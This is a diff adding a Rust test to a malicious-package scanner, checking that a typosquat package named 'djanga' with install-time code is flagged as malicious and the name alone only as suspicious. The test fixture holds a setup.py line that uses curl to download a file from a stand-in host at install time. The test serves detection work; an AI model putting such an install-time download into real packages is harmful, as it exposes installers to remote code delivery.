@@ -181,3 +181,35 @@ fn broken_archive_is_an_error_not_a_crash() {
     let r = scan("random.zip", b"PK\x03\x04garbage garbage garbage");
     assert!(!r.errors.is_empty());
 }
+
+#[test]
+fn typosquat_name_with_install_code_is_malicious() {
+    let setup = b"import os\nos.system('curl -s http://192.0.2.8/x -o /tmp/x')\nfrom setuptools import setup\nsetup(name='djanga')\n".to_vec();
+    let pkg_info = b"Metadata-Version: 2.1\nName: djanga\nVersion: 1.0\n".to_vec();
+    let files = vec![
+        ("PKG-INFO".to_string(), pkg_info.clone()),
+        ("setup.py".to_string(), setup),
+    ];
+    let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let chain = &with_rule(&r, "typosquat-install")[0];
+    assert!(
+        chain
+            .message
+            .contains("`djanga` imitates `django` (rank 516)"),
+        "{}",
+        chain.message
+    );
+    assert!(
+        chain.message.contains("runs code at install time"),
+        "{}",
+        chain.message
+    );
+    // The name alone is suspicious, never malicious.
+    let files = vec![
+        ("PKG-INFO".to_string(), pkg_info),
+        ("djanga/__init__.py".to_string(), b"X = 1\n".to_vec()),
+    ];
+    let r = scan("djanga-1.0.tar.gz", &gzip(&tar(&files, "djanga-1.0/")));
+    assert_eq!(r.verdict, Verdict::Suspicious, "{:#?}", r.findings);
+}
